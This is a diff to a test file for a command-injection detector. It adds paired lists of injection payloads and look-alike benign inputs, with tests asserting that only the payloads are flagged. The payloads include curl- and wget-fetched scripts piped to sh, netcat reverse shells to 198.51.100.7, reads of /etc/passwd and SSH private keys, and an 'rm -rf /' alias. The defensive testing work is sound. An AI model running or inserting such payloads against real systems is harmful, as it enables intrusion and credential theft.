@@ -1039,3 +1039,125 @@ def test_round5_command_injection_is_caught(engine, row):
 def test_round5_benign_raises_no_rce_finding(engine, row):
     hits = engine.inspect(carry(*row))
     assert not any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+# Round 6 (issue #4, the rce false positives of the second blind benign batch): text built from shell-looking pieces
+# that a shell would not run as a command — lists of skills and technologies with slashes, dots and parenthesised
+# notes, `;`- and `|`-separated CSV exports, a name and a path joined by `|` in a cookie, MediaWiki tables (`{|`, `!!`,
+# `||` cells) and templates (`{{#if:`, `{{{param|}}}`), `${name}` placeholders in translated sentences, Dockerfiles sent
+# whole, config directives named like builtins in a diff's context, exec calls on a variable named `cmd` — each beside
+# attacks of the same shape. The blind values themselves are not here. Measured with the rce.py of before round 6: 52/52
+# attacks caught, 33/37 benign flagged (the cmd rows and the `sleep 5`/`Ping`/`${SHELL}` attacks were added while
+# fixing, and measured on that code too). Scripts written to run (notebook shell cells, CI jobs, package.json scripts,
+# fenced shell) stay flagged: concatenated into a shell they run as written.
+ROUND6_ATTACKS: list[tuple[str, str]] = [
+    # lists of names in which one item is a probe, a path or a command line
+    ("form", "Python; SQL (PostgreSQL, T-SQL); whoami"), ("form", "Java; C/C++; Go; cat /etc/passwd"),
+    ("json", "Go; .NET; Node.js; id"), ("form", "Rust; HTML/CSS; bin/sh"),
+    ("form", "Perl; Ruby (Rails); wget http://198.51.100.7/x.sh -O /tmp/x.sh"),
+    ("form", "Bash; C/C++; curl 198.51.100.7/x.sh|sh"), ("query", "Kotlin; Swift (iOS); uname -a"),
+    # delimited exports with a command, a substitution or a pipe in a cell, or a probe as a lower-case header
+    ("json", "Date;Description;Amount\n01.06.2024;whoami;-85,00\n02.06.2024;Rent;-900,00"),
+    ("form", "Date;Description;Amount\n01.06.2024;$(id);-85,00\n02.06.2024;Rent;-900,00"),
+    ("form", "Date;Description;Amount\n01.06.2024;`id`;-85,00\n02.06.2024;Rent;-900,00"),
+    ("json", "Date;Description;Amount\n01.06.2024;curl http://198.51.100.7/x.sh|sh;1\n02.06.2024;Rent;2"),
+    ("form", "id;name;email\n1;alice;alice@example.com\n2;bob;bob@example.com"),
+    ("json", "Name;Note;Qty\nWidget;cat /etc/passwd;3\nGadget;ok;4"),
+    ("form", "Whoami;Host;Port\nweb;10.0.0.5;80\ndb;10.0.0.6;5432"),
+    ("json", "Date|Description|Amount\n2024-06-01|nc 198.51.100.7 4444 -e /bin/sh|1\n2024-06-02|Rent|2"),
+    ("form", "Date;Name;Amount\n01.06.2024;sleep 5;1\n02.06.2024;Rent;2"),
+    ("json", "Time;Host;Status\n12:00;Ping -n 9 198.51.100.7;OK\n12:01;web-02;OK"),
+    # a tool piped into a program in a system or upload directory
+    ("cookie", "python3|/tmp/x.py"), ("cookie", "perl|/home/www/uploads/s.pl"), ("form", "id|/bin/sh"),
+    ("json", "php|/var/tmp/a"), ("cookie", "node|/dev/shm/x.js"), ("form", "bash|/usr/bin/nc -e /bin/sh 198.51.100.7 4444"),
+    # wiki markup that carries a command line where a shell still runs it
+    ("form", "{| class=\"wikitable\"\n|-\n| $(id) || x\n|}"), ("form", "{| class=\"wikitable\"\n|-\n| x; id || y\n|}"),
+    ("form", "x; id\n{| class=\"wikitable\"\n|-\n| a || b\n|}"), ("json", "{{#if: x | y }}\n;cat /etc/passwd"),
+    ("form", "{{{image|}}}; curl http://198.51.100.7/x.sh | sh"), ("form", "{{Infobox|name=`whoami`}}"),
+    ("json", "{{#switch: x | a = $(uname -a) }}"), ("form", "!!; id"),
+    # placeholders beside commands, or named for the shell and alone
+    ("form", "${PATH}"), ("json", "echo ${HOME}"), ("form", "cat ${HOME}/.ssh/id_rsa"), ("json", "${SHELL} -c id"),
+    ("form", "${user} ; id"), ("json", "${USER} $(whoami)"),
+    ("form", "${SHELL} hello world"), ("json", "${bash} hat ${item} gekauft"),
+    # Dockerfiles with a command after `;`, `|`, `||`, on a plain line or in a substitution
+    ("form", "FROM alpine:3.19\nRUN apk add curl; curl http://198.51.100.7/x.sh | sh"),
+    ("json", "FROM alpine:3.19\nCOPY . /app\nRUN true || wget http://198.51.100.7/a -O /tmp/a"),
+    ("form", "FROM alpine:3.19\nWORKDIR /app\nid"), ("json", "FROM alpine:3.19\nCOPY $(whoami) /app"),
+    ("form", "FROM alpine:3.19\nCMD nc 198.51.100.7 4444 -e /bin/sh"),
+    ("form", "FROM alpine:3.19\nEXPOSE 80\ncat /etc/passwd"),
+    # builtins and commands on a diff's context lines
+    ("form", "--- a/x.conf\n+++ b/x.conf\n@@ -1,2 +1,2 @@\n alias ls='rm -rf /'\n-a\n+b"),
+    ("json", "--- a/x.conf\n+++ b/x.conf\n@@ -1,2 +1,2 @@\n cat /etc/passwd\n-a\n+b"),
+    ("form", "--- a/x.conf\n+++ b/x.conf\n@@ -1,2 +1,2 @@\n alias\n-a\n+b"), ("form", "x;alias"),
+    # cmd.exe given a command to run inside a language's exec call
+    ("form", "system(cmd /k whoami)"), ("json", "shell_exec(cmd /c type C:\\secret.txt)"), ("form", "exec(cmd.exe /c calc)"),
+]
+ROUND6_BENIGN: list[tuple[str, str]] = [
+    # lists of skills and technologies
+    ("form", "Go; Rust; C/C++; Python (Django, FastAPI); Docker; Kubernetes"),
+    ("form", "Java | Kotlin (Android) | Swift | SQL | CI/CD | Git"),
+    ("json", "Bash; PowerShell; Terraform; Ansible; AWS (EC2, S3, IAM); TCP/IP"),
+    ("form", "C#; .NET 8; ASP.NET; Azure (Functions, Cosmos DB); T-SQL; UI/UX"),
+    ("query", "Ruby; Rails; PostgreSQL; Redis; Sidekiq; HTML/CSS; A/B testing"),
+    ("form", "Perl; Python; Node.js; Vue.js (Nuxt); GraphQL; REST"),
+    # `;`- and `|`-separated CSV exports
+    ("json", "Datum;Buchungstext;Betrag;Saldo\n02.05.2024;\"Miete Mai; Wohnung 3\";-950,00;1.204,10\n"
+             "03.05.2024;\"Lohn\";2.800,00;4.004,10\n"),
+    ("form", "Date;Type;Amount;Currency\n2024-06-01;Card;-12,50;EUR\n2024-06-02;Transfer;250,00;EUR\n"),
+    ("json", "Id;Name;Email;Country\n1;Anna Schmidt;anna@example.de;DE\n2;Jan de Vries;jan@example.nl;NL\n"),
+    ("form", "Time;Host;Status;Latency (ms)\n12:00:01;web-01;OK;42\n12:00:02;web-02;DEGRADED;380\n"),
+    ("json", "Date|Description|Amount|Balance\n2024-06-01|Coffee Shop|-3.80|1204.10\n2024-06-02|Salary|2800.00|4004.10\n"),
+    ("form", "File;Size;Modified\nreport.pdf;1,2 MB;01.06.2024\nslides.pptx;8,4 MB;02.06.2024\n"),
+    # a name and a path joined by `|` in a cookie or setting
+    ("cookie", "python3|/user/anna/lab/tree/projects/forecast"), ("cookie", "node|/projects/web/dashboard"),
+    ("cookie", "ruby|/notebooks/2024/churn"), ("cookie", "perl|/workspace/scripts/report"),
+    # MediaWiki tables and templates
+    ("form", "{| class=\"wikitable\"\n|+ Results\n|-\n! Date !! Opponent !! Score\n|-\n| 2024-05-01 || [[FC Utrecht|Utrecht]] || 2–1\n|}"),
+    ("form", "{| class=\"wikitable sortable\"\n! Name !! Type !! Size\n|-\n| id || integer || 4\n|-\n| who || text || 255\n|}"),
+    ("form", "{{Infobox person\n| name = {{{name|}}}\n| image = {{{image|}}}\n| birth_date = {{Birth date|1950|1|1}}\n}}"),
+    ("form", "{{#if: {{{caption|}}} | {{{caption}}} | No caption }}\n{{#ifeq: {{{type}}} | list | Listed | Unlisted }}"),
+    ("form", "{{#switch: {{{lang}}}\n | de = Deutsch\n | nl = Nederlands\n | #default = English\n}}"),
+    ("form", "{{Sort|2024|June 2024}} and {{Date|2024-06-01}} are used in the list."),
+    # placeholders in translated and templated sentences
+    ("json", "${user} さんが ${count} 件のコメントを追加しました"), ("json", "${user} hat ${item} gekauft"),
+    ("json", "Bonjour ${user}, votre commande ${order} est expédiée"), ("json", "${home} стала домашней страницей"),
+    ("json", "Hello ${user}, welcome back!"),
+    # Dockerfiles sent whole
+    ("form", "FROM python:3.12-slim\nWORKDIR /srv\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\nCOPY . .\n"
+             "CMD [\"gunicorn\", \"app:app\"]\n"),
+    ("json", "# syntax=docker/dockerfile:1\nARG GO_VERSION=1.22\nFROM golang:${GO_VERSION} AS build\nWORKDIR /src\nCOPY . .\n"
+             "RUN go build -o /out/app ./cmd/app\n\nFROM gcr.io/distroless/static\nCOPY --from=build /out/app /app\n"
+             "USER nonroot\nENTRYPOINT [\"/app\"]\n"),
+    ("form", "FROM nginx:1.27-alpine\nCOPY nginx.conf /etc/nginx/nginx.conf\nCOPY dist/ /usr/share/nginx/html/\nEXPOSE 8080\n"),
+    ("json", "FROM eclipse-temurin:21-jre\nENV JAVA_OPTS=\"-Xmx512m\"\nCOPY target/app.jar /app.jar\nEXPOSE 8080\n"
+             "CMD java $JAVA_OPTS -jar /app.jar\n"),
+    # diffs of configuration files whose directives are named like shell builtins
+    ("json", "--- a/nginx/site.conf\n+++ b/nginx/site.conf\n@@ -8,5 +8,6 @@ server {\n     location /media/ {\n"
+             "         alias /var/www/media/;\n+        expires 7d;\n     }\n"),
+    ("form", "--- a/conf/httpd.conf\n+++ b/conf/httpd.conf\n@@ -1,3 +1,3 @@\n alias /icons/ /usr/share/httpd/icons/\n"
+             "-Listen 80\n+Listen 8080\n"),
+    # questions about exec calls on the variable code names its command line
+    ("json", "os.system(cmd) returns 256, what does that mean?"),
+    ("form", "subprocess.check_output(cmd, shell=True) hangs on Windows"),
+    ("form", "Why does exec(cmd) block forever in my PHP worker?"),
+    ("json", "The run(cmd, timeout=30) helper kills the child after thirty seconds"),
+]
+
+
+def test_round6_sets_are_distinct():
+    assert len(set(ROUND6_ATTACKS)) == len(ROUND6_ATTACKS) >= 40
+    assert len(set(ROUND6_BENIGN)) == len(ROUND6_BENIGN) >= 30
+    assert not set(ROUND6_BENIGN) & set(ALL_BENIGN + ROUND5_BENIGN)
+    assert not set(ROUND6_ATTACKS) & set(ALL_ATTACKS + ROUND5_ATTACKS)
+
+
+@pytest.mark.parametrize("row", ROUND6_ATTACKS, ids=_label)
+def test_round6_command_injection_is_caught(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+@pytest.mark.parametrize("row", ROUND6_BENIGN, ids=_label)
+def test_round6_benign_raises_no_rce_finding(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert not any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
